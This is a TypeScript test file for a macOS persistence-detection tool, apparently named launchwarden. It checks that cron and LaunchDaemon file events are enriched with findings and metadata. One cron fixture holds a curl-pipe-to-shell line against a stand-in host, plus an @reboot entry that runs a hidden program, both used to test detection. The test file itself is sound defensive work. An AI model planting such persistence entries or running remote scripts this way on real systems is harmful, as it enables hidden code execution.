import { expect, test } from 'vitest';
import { RootMap } from '../../../src/base/root.js';
import { Enricher } from '../../../src/enrich/index.js';
import type { EcsDocument } from '../../../src/event/document.js';
import { ManualClock } from '../../helpers/manual-clock.js';
import { xml } from '../base/plist/samples.js';

const enricher = new Enricher({
  root: new RootMap('/tree'),
  clock: new ManualClock(),
  version: '0',
  agentId: 'a',
  hostId: 'h',
  boot: 'b',
  users: { user: () => undefined, group: () => undefined },
});

function enriched(doc: EcsDocument, text?: string | Uint8Array) {
  const event = { id: 'e', time: 1_000, nanos: 0, sequence: Number.POSITIVE_INFINITY, doc };
  const bytes = text === undefined ? undefined : Buffer.from(text);
  const content = bytes && { bytes, size: bytes.length, truncated: false };
  return enricher.enrich({ event, ...(content === undefined ? {} : { content }) }).map(({ doc: one }) => one);
}

function fileEvent(path: string, action = 'modification'): EcsDocument {
  return { event: { action, category: ['file'] }, file: { path, type: 'file', uid: '0', mode: '0600' } };
}

test('an event of a file carries what its mechanism reads in it', () => {
  const [doc] = enriched(
    fileEvent('/private/var/at/tabs/mara'),
    '@reboot /Users/mara/.x/run\n0 1 * * * curl -s https://x.test | sh\n',
  );
  expect(doc?.launchwarden).toMatchObject({
    findings: expect.arrayContaining(['hidden-program', 'remote-script']),
    persistence: {
      mechanism: 'cron',
      path: '/private/var/at/tabs/mara',
      when: ['boot', 'calendar'],
      as: ['mara'],
      entries: 2,
      techniques: ['T1053.003'],
    },
  });
  expect(doc?.launchwarden?.persistence?.runs).toContain('/Users/mara/.x/run');
});

test('all events of one item have its id, also when it is gone, when it is a launch item, and when its job is loaded', () => {
  const path = '/Library/LaunchDaemons/com.example.x.plist';
  const docs = [
    ...enriched(
      fileEvent(path),
      xml(
        '<dict><key>Label</key><string>com.example.x</string><key>Program</key><string>/usr/local/bin/x</string></dict>',
      ),
    ),
    ...enriched(fileEvent(path, 'deletion')),
    ...enriched({
      event: { action: 'loaded', category: ['configuration'] },
      launchwarden: { job: { label: 'com.example.x', plist_path: path } },
    }),
  ];
  expect(docs.map((doc) => doc.event?.action)).toEqual([
    'modification',
    'launch_daemon',
    'deletion',
    'loaded',
  ]);
  expect(new Set(docs.map((doc) => doc.launchwarden?.persistence?.item_id)).size).toBe(1);
  expect(docs[1]?.launchwarden?.persistence).toMatchObject({
    mechanism: 'launch-daemon',
    label: ['com.example.x'],
    runs: ['/usr/local/bin/x'],
    as: ['root'],
  });
});

test('a file of no mechanism carries nothing of one', () => {
  expect(enriched(fileEvent('/private/tmp/x'), 'x')[0]?.launchwarden?.persistence).toBeUndefined();
});
